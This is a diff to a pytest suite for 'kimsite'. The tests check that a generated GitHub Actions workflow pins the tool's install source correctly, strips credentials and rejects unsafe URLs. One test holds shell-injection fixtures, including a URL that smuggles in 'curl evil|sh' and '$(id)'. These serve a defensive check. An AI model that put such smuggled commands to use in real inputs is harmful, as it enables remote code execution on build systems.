@@ -2,8 +2,10 @@
 
 from __future__ import annotations
 
+import json
 import os
 import re
+import shlex
 import subprocess
 import sys
 from html.parser import HTMLParser
@@ -12,10 +14,11 @@ from pathlib import Path
 import pytest
 import yaml
 from click.testing import CliRunner
+from packaging.requirements import Requirement
 
-from kimsite import __version__
 from kimsite.cli import main
 from kimsite.deploy import ACTIONS, WORKFLOW_PATH, workflow_text, write_workflow
+from kimsite.install_source import detect
 
 TEST_PAGES_URL = "https://pengguna.github.io/kim"  # what actions/configure-pages reports
 
@@ -92,7 +95,7 @@ def test_workflow_build_steps_in_order(workflow_file):
     assert checkout < python < install < cache < fetch < check < pages < build < upload
 
     assert steps[python]["with"]["python-version"] == "3.11"
-    assert runs[install].strip() == f"pip install kimsite=={__version__}"
+    assert runs[install].strip() == f"pip install {detect().pip_argument}"
     cached = steps[cache]["with"]
     assert set(cached["path"].split()) == {".kimsite/", "feeds/"}
     assert "hashFiles('content/**', 'sites/**'" in cached["key"]
@@ -202,3 +205,127 @@ def test_fetch_step_skipped_without_remote_kims(demo_copy):
     done = subprocess.run(["bash", "-e", "-c", script], cwd=demo_copy, capture_output=True, text=True)
     assert done.returncode == 0
     assert not (demo_copy / ".fetch-ran").exists()
+
+
+# --- the install line follows how kimsite was installed (PEP 610 direct_url.json) ----------
+
+COMMIT = "0123456789abcdef0123456789abcdef01234567"
+
+
+@pytest.fixture
+def installed_as(tmp_path, monkeypatch):
+    """Make kimsite look installed with the given direct_url.json (None: from the package index),
+    through a real dist-info folder read by importlib.metadata."""
+    from importlib import metadata
+
+    import kimsite.install_source as install_source
+
+    def install(direct_url: dict | str | None, version: str = "9.8.7") -> None:
+        dist_info = tmp_path / "site-packages" / f"kimsite-{version}.dist-info"
+        dist_info.mkdir(parents=True)
+        (dist_info / "METADATA").write_text(f"Metadata-Version: 2.1\nName: kimsite\nVersion: {version}\n",
+                                            encoding="utf-8")
+        if direct_url is not None:
+            text = direct_url if isinstance(direct_url, str) else json.dumps(direct_url)
+            (dist_info / "direct_url.json").write_text(text, encoding="utf-8")
+        found = metadata.PathDistribution(dist_info)
+        monkeypatch.setattr(install_source.metadata, "distribution", lambda name: found)
+
+    return install
+
+
+def _init_ci(tmp_path: Path, lang: str = "id"):
+    site = tmp_path / "situs"
+    site.mkdir(exist_ok=True)
+    done = CliRunner().invoke(main, ["init", str(site), "--ci", "--lang", lang])
+    assert done.exit_code == 0, done.output
+    workflow = _load(site / WORKFLOW_PATH)
+    (line,) = [s["run"] for s in _steps(workflow) if "pip install" in s.get("run", "")]
+    words = subprocess.run(["bash", "-c", 'for word in "$@"; do echo "$word"; done', "-", *shlex.split(line)],
+                           capture_output=True, text=True, check=True).stdout.splitlines()
+    assert words[:2] == ["pip", "install"] and len(words) == 3, line  # one requirement, one shell word
+    return words[2], done.output, site
+
+
+def test_installed_from_the_index_pins_the_version(tmp_path, installed_as):
+    installed_as(None)
+    requirement, output, _ = _init_ci(tmp_path)
+    assert requirement == "kimsite==9.8.7"
+    assert "peringatan" not in output
+
+
+def test_installed_from_git_pins_the_commit(tmp_path, installed_as):
+    installed_as({"url": "https://github.com/kim-contoh/kimsite.git",
+                  "vcs_info": {"vcs": "git", "commit_id": COMMIT, "requested_revision": "main"}})
+    requirement, output, site = _init_ci(tmp_path)
+    assert requirement == f"kimsite @ git+https://github.com/kim-contoh/kimsite.git@{COMMIT}"
+    parsed = Requirement(requirement)
+    assert parsed.name == "kimsite" and parsed.url.endswith(COMMIT)
+    assert "peringatan" not in output
+    done = subprocess.run([sys.executable, "-m", "check_jsonschema", "--builtin-schema", "vendor.github-workflows",
+                           str(site / WORKFLOW_PATH)], capture_output=True, text=True, env=_tool_env())
+    assert done.returncode == 0, done.stdout + done.stderr
+
+
+def test_installed_from_a_published_archive(tmp_path, installed_as):
+    url = "https://example.org/rilis/kimsite-9.8.7-py3-none-any.whl"
+    installed_as({"url": url, "archive_info": {"hashes": {"sha256": "ab" * 32}}})
+    requirement, output, _ = _init_ci(tmp_path)
+    assert requirement == f"kimsite @ {url}"
+    assert "peringatan" not in output
+
+
+@pytest.mark.parametrize("direct_url", [
+    {"url": "file:///home/relawan/kimsite", "dir_info": {"editable": True}},  # pip install -e .
+    {"url": "file:///home/relawan/kimsite", "dir_info": {}},  # pip install .
+    {"url": "file:///tmp/dist/kimsite-9.8.7-py3-none-any.whl", "archive_info": {}},  # a local build
+    {"url": "file:///home/relawan/kimsite", "vcs_info": {"vcs": "git", "commit_id": COMMIT}},  # local clone
+    "{not json",
+], ids=["editable", "folder", "local-wheel", "local-git", "broken-metadata"])
+def test_installed_from_this_machine_writes_the_workflow_and_warns(tmp_path, installed_as, direct_url):
+    installed_as(direct_url)
+    requirement, output, site = _init_ci(tmp_path)
+    assert requirement == "kimsite==9.8.7"
+    assert (site / WORKFLOW_PATH).is_file()
+    assert "peringatan: kimsite ini dipasang dari sumber yang tidak dapat dipasang oleh GitHub" in output
+    assert 'pip install "kimsite @ git+https://github.com/PEMILIK/kimsite@COMMIT"' in output
+    if isinstance(direct_url, dict):
+        assert "/home/relawan/kimsite" in output or "/tmp/dist/" in output
+    (tmp_path / "en").mkdir()
+    english = _init_ci(tmp_path / "en", "en")[1]
+    assert "warning: this kimsite was installed from a source GitHub cannot install" in english
+
+
+def test_unreleasable_version_from_an_index_warns(tmp_path, installed_as):
+    installed_as(None, version="9.8.7+lokal")
+    requirement, output, _ = _init_ci(tmp_path)
+    assert requirement == "kimsite==9.8.7+lokal" and "peringatan" in output
+
+
+def test_credentials_never_reach_the_workflow(tmp_path, installed_as):
+    installed_as({"url": "https://relawan:ghp_RAHASIA@github.com/kim-contoh/kimsite",
+                  "vcs_info": {"vcs": "git", "commit_id": COMMIT}})
+    requirement, _, site = _init_ci(tmp_path)
+    assert requirement == f"kimsite @ git+https://github.com/kim-contoh/kimsite@{COMMIT}"
+    assert "RAHASIA" not in (site / WORKFLOW_PATH).read_text(encoding="utf-8")
+
+
+def test_ssh_install_becomes_https(tmp_path, installed_as):
+    installed_as({"url": "ssh://git@github.com/kim-contoh/kimsite.git", "vcs_info": {"vcs": "git", "commit_id": COMMIT}})
+    assert _init_ci(tmp_path)[0] == f"kimsite @ git+https://github.com/kim-contoh/kimsite.git@{COMMIT}"
+
+
+@pytest.mark.parametrize("url", ['https://github.com/a/b";curl evil|sh;"', "https://github.com/a/b$(id)",
+                                 "https://github.com/a/b\n  run: curl evil", "https://github.com/a/b #x"])
+def test_a_hostile_url_is_not_written_into_the_workflow(tmp_path, installed_as, url):
+    installed_as({"url": url, "vcs_info": {"vcs": "git", "commit_id": COMMIT}})
+    requirement, output, site = _init_ci(tmp_path)
+    assert requirement == "kimsite==9.8.7" and "peringatan" in output
+    text = (site / WORKFLOW_PATH).read_text(encoding="utf-8")
+    assert "evil" not in text and "$(id)" not in text
+
+
+def test_a_branch_name_is_not_a_commit(tmp_path, installed_as):
+    installed_as({"url": "https://github.com/kim-contoh/kimsite", "vcs_info": {"vcs": "git", "commit_id": "main"}})
+    requirement, output, _ = _init_ci(tmp_path)
+    assert requirement == "kimsite==9.8.7" and "peringatan" in output
